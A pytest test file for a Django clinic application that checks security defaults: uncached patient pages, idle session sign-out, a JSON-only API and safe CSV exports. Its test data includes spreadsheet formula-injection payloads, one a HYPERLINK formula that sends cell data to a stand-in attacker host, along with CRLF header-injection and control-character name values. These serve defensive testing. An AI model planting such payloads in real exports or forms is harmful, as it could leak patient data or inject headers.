"""Issue 12, safe defaults: production is the default, pages with patient data are not cached,
an unattended tablet signs itself out, exports cannot carry formulas, names carry no control
characters, and the API shows a browser nothing but JSON."""

import csv
import io
import time

import pytest
from django.contrib.sessions.models import Session
from django.core.exceptions import ValidationError
from django.urls import reverse
from rest_framework.test import APIClient

from clinic.models import Patient
from clinic.ui import neutralise_formula
from tests.factories import PatientFactory

# --- Headers ----------------------------------------------------------------------------


def test_it_keeps_signed_in_pages_out_of_every_cache(client, nurse):
    client.force_login(nurse)
    response = client.get(reverse("home"))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_it_keeps_the_login_page_out_of_caches_too(client):
    response = client.get(reverse("login"))
    assert "no-store" in response["Cache-Control"]


def test_it_sends_a_session_cookie_that_dies_with_the_browser(client, nurse, settings):
    response = client.post(reverse("login"), {"username": nurse.username, "password": "x"})
    assert settings.SESSION_EXPIRE_AT_BROWSER_CLOSE
    client.force_login(nurse)
    cookie = client.cookies[settings.SESSION_COOKIE_NAME]
    assert not cookie["expires"] and not cookie["max-age"], response


def test_it_signs_out_a_session_left_idle(client, nurse, settings):
    """A shared tablet left on the trolley: after the idle timeout the next tap asks to log in."""
    assert settings.SESSION_COOKIE_AGE == 30 * 60
    client.force_login(nurse)
    assert client.get(reverse("home")).status_code == 200
    session = client.session
    session.set_expiry(-1)  # as if the idle minutes had passed
    session.save()
    response = client.get(reverse("home"))
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def stored_expiry(client):
    return Session.objects.get(session_key=client.session.session_key).expire_date


def test_it_does_not_count_a_board_refreshing_itself_as_use(client, nurse, monkeypatch):
    client.force_login(nurse)
    first = stored_expiry(client)
    monkeypatch.setattr(time, "time", lambda real=time.time: real() + 120)
    client.get(reverse("nursing_board"), headers={"HX-Request": "true"})
    assert stored_expiry(client) == first


def test_it_keeps_an_active_session_alive(client, nurse, settings, monkeypatch):
    client.force_login(nurse)
    first = stored_expiry(client)
    monkeypatch.setattr(time, "time", lambda real=time.time: real() + 120)
    client.get(reverse("home"))
    assert stored_expiry(client) > first


# --- API --------------------------------------------------------------------------------


def test_it_answers_a_browser_with_json_not_the_browsable_api(nurse):
    api = APIClient()
    api.force_authenticate(nurse)
    response = api.get("/api/v1/patients/", HTTP_ACCEPT="text/html")
    assert response.status_code in {200, 406}
    assert "text/html" not in response["Content-Type"]


def test_it_has_no_swagger_ui_in_production(client, front_desk):
    client.force_login(front_desk)
    assert client.get("/api/docs/").status_code == 404
    assert client.get("/api/schema/").status_code == 200


# --- Exports and names ------------------------------------------------------------------


@pytest.mark.parametrize(
    "value,expected",
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-3", "-3"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("Lund", "Lund"),
        ("", ""),
        (7, 7),
    ],
)
def test_it_neutralises_cells_a_spreadsheet_would_run(value, expected):
    assert neutralise_formula(value) == expected


def test_it_exports_a_patient_named_like_a_formula_as_text(client, front_desk):
    PatientFactory(last_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    client.force_login(front_desk)
    response = client.get(reverse("patient_list"), {"_export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


@pytest.mark.parametrize(
    "name", ["Lund\r\nBcc: x@example.org", "Lu\x00nd", "Lund\x1b[31m", "Lu\tnd"]
)
def test_it_refuses_control_characters_in_a_name(db, name):
    patient = PatientFactory.build(last_name=name)
    with pytest.raises(ValidationError) as refused:
        patient.full_clean()
    assert "last_name" in refused.value.message_dict


def test_it_refuses_a_name_with_a_line_break_on_the_api(front_desk):
    api = APIClient()
    api.force_authenticate(front_desk)
    response = api.post(
        "/api/v1/patients/",
        {
            "mrn": "CTRL1",
            "first_name": "Karin",
            "last_name": "Lund\r\nX",
            "date_of_birth": "1970-01-01",
        },
        format="json",
    )
    assert response.status_code == 400
    assert "last_name" in response.json()
    assert not Patient.objects.filter(mrn="CTRL1").exists()
